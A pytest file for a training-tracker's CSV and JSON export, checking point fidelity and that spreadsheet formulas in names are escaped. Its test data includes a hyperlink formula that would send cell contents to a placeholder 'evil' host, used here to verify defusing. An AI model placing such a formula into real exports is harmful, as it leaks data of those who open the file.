import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlalchemy import insert

from trainwatch.domain.task import Task
from trainwatch.errors import NotFoundError
from trainwatch.store.export import FORMATS, export_task
from trainwatch.store.tables import JOB_ATTEMPTS, METRIC_POINTS, TASK_EVENTS, TASKS
from trainwatch.store.tasks import row_from_task

NOW = datetime(2026, 1, 31, 12, 0, tzinfo=UTC)
POINTS = 5_000


@pytest.fixture
def filled(database):
    task = Task(id=1, title='a "b", c', created_at=NOW, last_updated=NOW, latest={"val_loss": 1.0})
    points = [
        {"task_id": 1, "attempt": 1, "name": "a,b", "step": step, "epoch": 1, "value": step / 3, "flag": None}
        for step in range(POINTS)
    ]
    points.append({**points[0], "name": "loss", "value": None, "flag": "nan"})
    line = {"task_id": 1, "attempt": 1, "kind": "created", "message": "m", "created_at": NOW}
    with database.writing() as connection:
        connection.execute(insert(TASKS).values(row_from_task(task)))
        connection.execute(insert(JOB_ATTEMPTS).values(task_id=1, attempt=1, status="running"))
        connection.execute(insert(TASK_EVENTS).values(line))
        connection.execute(insert(METRIC_POINTS), [{**point, "created_at": NOW} for point in points])
        connection.commit()
    return database


def test_csv_has_every_point_as_it_was(filled):
    pieces = list(export_task(filled, 1, "csv"))
    rows = list(csv.DictReader(io.StringIO("".join(pieces))))
    assert len(pieces) > 2
    assert [float(row["value"]) for row in rows[:-1]] == [step / 3 for step in range(POINTS)]
    assert rows[-1] == {
        "attempt": "1",
        "name": "loss",
        "step": "0",
        "epoch": "1",
        "value": "",
        "flag": "nan",
        "created_at": "2026-01-31T12:00:00Z",
    }


DEFUSED = {
    **{text: f"'{text}" for text in ("=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠A1")},  # noqa: RUF001
    '=HYPERLINK("http://evil/?"&A1,"x"),y': '\'=HYPERLINK("http://evil/?"&A1,"x"),y',
    **{f"{blank}=1": f"{blank!r}=1".replace("'", "") for blank in ("\t", "\r", "\n", "x\r", "x\n")},
    **{text: text for text in ("loss", "a=b", "grad-norm")},
}


def test_no_text_in_a_csv_file_is_a_formula_and_every_number_stays_one(database):
    names = list(DEFUSED)
    points = [
        {"task_id": 1, "attempt": 1, "name": name, "step": number, "epoch": None, "value": -0.5, "flag": None}
        for number, name in enumerate(names)
    ]
    points[-1] |= {"value": None, "flag": "-inf"}
    with database.writing() as connection:
        task = Task(id=1, title="=1+1", created_at=NOW, last_updated=NOW)
        connection.execute(insert(TASKS).values(row_from_task(task)))
        connection.execute(insert(METRIC_POINTS), [{**point, "created_at": NOW} for point in points])
        connection.commit()
    text = "".join(export_task(database, 1, "csv"))
    rows = {int(row["step"]): row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert [rows[number]["name"] for number in range(len(names))] == list(DEFUSED.values())
    assert {row["value"] for row in rows.values()} == {"-0.5", ""}
    assert rows[len(names) - 1]["flag"] == "-inf"
    whole = json.loads("".join(export_task(database, 1, "json")))
    assert {point["name"] for point in whole["points"]} == set(names)


def test_json_has_the_task_its_history_and_every_point(filled):
    whole = json.loads("".join(export_task(filled, 1, "json")))
    assert (whole["task"]["title"], whole["task"]["createdAt"]) == ('a "b", c', "2026-01-31T12:00:00Z")
    assert whole["task"]["latest"] == {"val_loss": 1.0}
    assert [line["kind"] for line in whole["events"]] == ["created"]
    assert [each["status"] for each in whole["attempts"]] == ["running"]
    assert [point["value"] for point in whole["points"]] == [*(step / 3 for step in range(POINTS)), None]


@pytest.mark.parametrize("kind", FORMATS)
def test_a_task_without_points_is_a_whole_file(database, kind):
    with database.writing() as connection:
        task = Task(id=1, title="t", created_at=NOW, last_updated=NOW)
        connection.execute(insert(TASKS).values(row_from_task(task)))
        connection.commit()
    text = "".join(export_task(database, 1, kind))
    assert json.loads(text)["points"] == [] if kind == "json" else text.count("\n") == 1


@pytest.mark.parametrize("kind", FORMATS)
def test_an_unknown_task_is_said_to_be_unknown(database, kind):
    with pytest.raises(NotFoundError):
        list(export_task(database, 1, kind))
